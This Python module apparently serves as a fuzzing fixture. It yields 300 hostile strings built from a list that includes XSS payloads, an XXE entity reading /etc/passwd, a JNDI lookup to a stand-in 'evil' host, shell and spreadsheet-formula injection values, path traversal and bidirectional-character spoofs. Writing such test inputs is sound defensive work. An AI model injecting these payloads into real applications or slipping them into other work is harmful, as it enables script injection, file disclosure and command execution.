"""Three hundred texts that want to be more than text: markup, script, style, SVG, templates, control and bidirectional characters."""

from collections.abc import Iterator
from itertools import islice, product

CORES = (
    "<script>alert(1)</script>", "</script><script>alert(1)//", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mtext><script>alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=data:text/html,x>", "<embed src=x>", "<base href=//evil>",
    "<link rel=stylesheet href=//evil>", "<meta http-equiv=refresh content='0;url=//evil'>", "<style>*{display:none}</style>",
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)", "<!--", "-->", "<![CDATA[",
    "]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", '"><script>alert(1)</script>',
    "' onmouseover='alert(1)", '" onfocus=alert(1) autofocus="', "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}", "{% raw %}", "{number}", "{0.__class__}", "%(x)s %n %s", "${jndi:ldap://evil/x}", "$(touch x) `touch x`; touch x",
    "=HYPERLINK(\"http://evil\")", "@SUM(1+1)*cmd|' /C calc'!A0", "\\u003cscript\\u003e", "&lt;script&gt;", "&#x3c;script&#x3e;", "&amp;amp;",
    '{"a": "b"}', '"}],"findings":[]', "</pre><pre id=\"record\">{}</pre>", "<!-- seal sha256:" + "0" * 64 + " -->", "url(//evil/x)",
    "*/ body{display:none} /*", "expression(alert(1))", "\\", "\\\\\"'", "../../../etc/passwd", "CON", "a\nb\r\nc\td", "\n\n\n", " ", "\u3000\u00a0",
    "\x00", "a\x00b", "\x1b[31mred\x1b[0m", "\x08\x08\x08", "\x7f\x80\x9f", "\u202egpj.exe", "\u2066\u2067\u2068\u2069", "\u061c\u200e\u200f",
    "\u200b\u200c\u200d\u2060", "\ufeffx", "\u2028\u2029", "\ud800", "\udfff", "\udcff\ud83d", "\U000e0041\U000e007f", "\ufff9\ufffa\ufffb",
    "\ufdd0\uffff\U0010ffff", "e" + "\u0301" * 50, "\u0e4f" * 20 + "\u0337" * 30, "שלום abc مرحبا", "中文 한국어 ไทย", "😀👩‍👩‍👧‍👦🏳️‍🌈",
    "𝓼𝓬𝓻𝓲𝓹𝓽", "ｓｃｒｉｐｔ＜＞", "<ſcript>", "İ<script>", "A" * 100_000, "<b>" * 3000, "&" * 5000, "\u202e" * 2000, "x " * 20_000, "-" * 300,
    "W" * 300, "‘’“”„«»", "0", "-1", "1e999", "NaN", "null", "true", "", "_(\"x\")", "FR-0000-0000-0000", "H1 H2 <sub>1</sub>",
)  # fmt: skip
AROUND = (("", ""), ("Müller ", " & Söhne"), ("\u202d<i ", ">"))


def hostile_texts(n: int = 300) -> Iterator[str]:
    """Yield `n` texts, no two alike."""
    yield from islice((f"{before}{core}{after}" for (before, after), core in product(AROUND, CORES)), n)
